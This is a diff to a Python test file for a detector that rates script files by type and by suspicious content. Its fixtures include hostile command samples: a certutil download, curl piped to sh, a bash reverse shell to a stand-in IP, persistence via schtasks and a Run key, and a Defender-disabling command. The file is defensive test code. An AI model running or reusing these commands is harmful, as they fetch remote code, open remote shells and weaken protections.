@@ -11,14 +11,65 @@ from tests.samples.files import findings_of, severities
     ("name", "body"),
     [
         ("a.bat", b"dir\r\n"),
+        ("a.cmd", b"@echo off\r\ncall build.cmd %1\r\n"),
         ("a.ps1", b"Get-Date\r\n"),
+    ],
+)
+def test_what_people_do_give_away_and_a_double_click_starts_is_low(name: str, body: bytes) -> None:
+    assert severities(detector, body, name) == [Severity.LOW]
+
+
+@pytest.mark.parametrize(
+    ("name", "body"),
+    [
         ("a.vbs", b"MsgBox 1"),
         ("a.hta", b"<html><body></body></html>"),
         ("a.wsf", b"<job><script language='VBScript'>x=1</script></job>"),
+        ("b.wsf", b"<?xml version='1.0'?><package><job/></package>"),
+        ("a.wsh", b"[ScriptFile]\r\nPath=a.vbs\r\n"),
+        ("a.sct", b"<?XML version='1.0'?><scriptlet></scriptlet>"),
+        ("a.jse", b"#@~^AAAAAA==x"),
     ],
 )
-def test_what_a_double_click_starts_is_low(name: str, body: bytes) -> None:
-    assert severities(detector, body, name) == [Severity.LOW]
+def test_kinds_that_nobody_gives_away_and_a_double_click_runs_are_medium(name: str, body: bytes) -> None:
+    (finding,) = findings_of(detector, body, name)
+    assert finding.severity is Severity.MEDIUM
+    assert finding.detail is not None
+    assert "double click" in finding.detail.in_english()
+
+
+@pytest.mark.parametrize(
+    ("name", "body", "reason"),
+    [
+        ("a.bat", b"certutil -urlcache -f http://198.51.100.7/a a.exe\r\n", "network"),
+        ("a.bat", b"schtasks /create /tn a /tr b\r\n", "login"),
+        ("a.bat", b'reg add "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run" /v a /d b\r\n', "login"),
+        ("a.sh", b"#!/bin/sh\ncurl https://198.51.100.7/x | sh\n", "network"),
+        ("a.ps1", b"Set-MpPreference -DisableRealtimeMonitoring 1\r\n", "protection"),
+        ("a.sh", b"#!/bin/bash\nbash -i >& /dev/tcp/198.51.100.7/99 0>&1\n", "control"),
+        ("a.js", b"var s = new ActiveXObject('WScript.Shell'); s.Run('a.exe');", "script host"),
+    ],
+)
+def test_a_script_that_does_something_telling_is_medium_and_says_what(name: str, body: bytes, reason: str) -> None:
+    (finding,) = findings_of(detector, body, name)
+    assert finding.severity is Severity.MEDIUM
+    assert finding.detail is not None
+    assert reason in finding.detail.in_english()
+
+
+@pytest.mark.parametrize(
+    ("name", "body"),
+    [
+        ("build.sh", b"#!/bin/sh\n# install with: curl https://example.org/x | sh\nmake all\n"),
+        ("hook", b"#!/bin/sh\necho 'run curl https://example.org | sh first'\n"),
+        ("build.bat", b"@echo off\r\nREM schtasks /create /tn x\r\nmsbuild a.sln\r\nreg query HKLM\\Software\r\n"),
+        ("fetch.sh", b"#!/bin/sh\ncurl -O https://example.org/a.tar.gz\ntar xf a.tar.gz\n"),
+        ("gulp.js", b"const { exec } = require('child_process'); exec('tsc');\n"),
+        ("net.py", b"import urllib.request\ndata = urllib.request.urlopen(url).read()\n"),
+    ],
+)
+def test_ordinary_build_scripts_and_hooks_stay_below_medium(name: str, body: bytes) -> None:
+    assert all(severity.rank < Severity.MEDIUM.rank for severity in severities(detector, body, name))
 
 
 @pytest.mark.parametrize(
